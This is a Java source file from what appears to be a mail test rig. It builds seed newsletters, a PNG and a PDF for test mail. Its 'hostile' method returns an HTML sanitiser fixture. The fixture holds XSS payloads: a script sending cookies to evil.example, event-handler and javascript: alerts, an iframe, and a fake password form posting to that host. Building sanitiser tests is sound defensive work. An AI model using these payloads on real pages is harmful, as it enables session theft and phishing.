package org.mailback.rig;

import static java.nio.charset.StandardCharsets.US_ASCII;

import java.io.ByteArrayOutputStream;
import java.nio.ByteBuffer;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.zip.CRC32;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;

/** HTML pages, pictures and a small PDF for the seeded mail, made in code so that no binary lies in the repository. */
final class SeedPages {

    private SeedPages() {}

    static String newsletter(SeedText text, String title) {
        return """
        <!DOCTYPE html>
        <html><head><meta charset="utf-8"><title>%1$s</title>
        <style>body { font-family: Georgia, serif; color: #243b55 } .card { border: 1px solid #cbd5e1; padding: 12px }</style></head>
        <body bgcolor="#f8fafc"><img src="https://images.mailback.example/banner.png" width="600" alt="Banner">
        <h1 style="color:#1d4ed8">%1$s</h1><div class="card"><p>%2$s</p><p style="background:url(https://images.mailback.example/bg.png)">%3$s</p></div>
        <table border="1" cellpadding="4"><tr><th>Item</th><th>Note</th></tr><tr><td>1</td><td>%4$s</td></tr><tr><td>2</td><td>%5$s</td></tr></table>
        <ul><li>%6$s</li><li><a href="https://intranet.mailback.example/news?id=42&amp;ref=mail">Read on in the intranet</a></li></ul>
        <img src="https://track.mailback.example/open.gif?u=alice" width="1" height="1" alt=""></body></html>
        """.formatted(
                escaped(title), text.paragraph(), text.paragraph(), text.sentence(), text.sentence(), text.sentence());
    }

    /** What a sanitiser must defuse, with an honest paragraph that must survive. */
    static String hostile(SeedText text) {
        return """
        <html><head><script>document.location='https://evil.example/?c='+document.cookie</script>
        <meta http-equiv="refresh" content="0;url=https://evil.example/"><base href="https://evil.example/"></head>
        <body onload="alert(1)"><p>%s</p><img src="x" onerror="alert(2)"><a href="javascript:alert(3)">Your parcel</a>
        <iframe src="https://evil.example/frame"></iframe><svg onload="alert(4)"><use href="data:image/svg+xml,x"></use></svg>
        <form action="https://evil.example/login" method="post">Password: <input type="password" name="p"><button>Sign in</button></form>
        <div style="position:fixed;top:0;left:0;width:100%%;height:100%%;background:url('javascript:alert(5)')"></div>
        <style>@import url(https://evil.example/x.css); body { behavior: url(x.htc) }</style></body></html>
        """.formatted(text.paragraph());
    }

    static String withInlinePicture(SeedText text) {
        return "<html><body><p>" + text.paragraph() + "</p><img src=\"cid:logo@mailback.example\" alt=\"Logo\"><p>"
                + text.sentence() + "</p></body></html>";
    }

    /** A square PNG of random blocks. */
    static byte[] picture(Random dice, int side) {
        var rows = new ByteArrayOutputStream();
        var base = dice.nextInt(0xffffff);
        for (var y = 0; y < side; y++) {
            rows.write(0);
            for (var x = 0; x < side; x++) {
                var colour = base + (x / 8) * 0x1f0a03 + (y / 8) * 0x051733;
                rows.write(colour >> 16);
                rows.write(colour >> 8);
                rows.write(colour);
            }
        }
        var png = new ByteArrayOutputStream();
        png.writeBytes(new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n'});
        png.writeBytes(chunk(
                "IHDR",
                ByteBuffer.allocate(13)
                        .putInt(side)
                        .putInt(side)
                        .put(new byte[] {8, 2, 0, 0, 0})
                        .array()));
        png.writeBytes(chunk("IDAT", deflated(rows.toByteArray())));
        png.writeBytes(chunk("IEND", new byte[0]));
        return png.toByteArray();
    }

    /** One page of PDF 1.4 with one line of text. */
    static byte[] pdf(String line) {
        var stream = "BT /F1 14 Tf 60 760 Td (" + line.replaceAll("[()\\\\]", "") + ") Tj ET";
        var objects = List.of(
                "<< /Type /Catalog /Pages 2 0 R >>",
                "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
                "<< /Length " + stream.length() + " >>\nstream\n" + stream + "\nendstream",
                "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>");
        var file = new StringBuilder("%PDF-1.4\n");
        var offsets = new ArrayList<Integer>();
        for (var object : objects) {
            offsets.add(file.length());
            file.append(offsets.size()).append(" 0 obj\n").append(object).append("\nendobj\n");
        }
        var table = file.length();
        file.append("xref\n0 6\n0000000000 65535 f \n");
        offsets.forEach(offset -> file.append("%010d 00000 n \n".formatted(offset)));
        file.append("trailer\n<< /Size 6 /Root 1 0 R >>\nstartxref\n")
                .append(table)
                .append("\n%%EOF\n");
        return file.toString().getBytes(US_ASCII);
    }

    private static byte[] chunk(String type, byte[] data) {
        var name = type.getBytes(US_ASCII);
        var sum = new CRC32();
        sum.update(name);
        sum.update(data);
        return ByteBuffer.allocate(12 + data.length)
                .putInt(data.length)
                .put(name)
                .put(data)
                .putInt((int) sum.getValue())
                .array();
    }

    private static byte[] deflated(byte[] data) {
        var out = new ByteArrayOutputStream();
        try (var deflater = new DeflaterOutputStream(out, new Deflater())) {
            deflater.write(data);
        } catch (java.io.IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    private static String escaped(String text) {
        return text.replace("&", "&amp;").replace("<", "&lt;");
    }
}
